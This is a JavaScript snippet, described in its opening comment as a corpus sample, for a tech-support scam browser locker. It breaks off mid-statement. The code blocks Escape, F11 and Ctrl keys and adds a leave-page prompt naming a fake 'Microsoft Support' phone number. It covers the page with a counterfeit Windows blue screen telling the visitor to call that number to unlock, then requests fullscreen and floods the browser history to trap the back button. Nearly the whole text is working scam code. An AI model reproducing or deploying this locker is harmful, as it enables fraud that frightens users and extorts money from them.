// corpus note: BSOD + fullscreen + key-block locker, truncated mid-statement
(function(){
  var tel = "+1 888 555 0139";
  document.addEventListener("keydown", function(e){
    if (e.key === "Escape" || e.key === "F11" || e.ctrlKey) { e.preventDefault(); }
  }, true);
  window.onbeforeunload = function(){ return "Call Microsoft Support " + tel; };
  var box = document.createElement("div");
  box.style.cssText = "position:fixed;inset:0;background:#0000aa;color:#fff;font:18px Lucida Console,monospace;padding:60px;z-index:2147483647";
  box.innerHTML = "<p>A problem has been detected and Windows has been shut down to prevent damage to your computer.</p>" +
    "<p>DRIVER_IRQL_NOT_LESS_OR_EQUAL</p><p>Please contact Windows Support at " + tel + " to unlock.</p>";
  document.documentElement.appendChild(box);
  box.addEventListener("click", function(){
    var el = document.documentElement;
    if (el.requestFullscreen) { el.requestFullscreen().then(function(){ for (var i = 0; i < 80; i++) history.pushState({}, "",
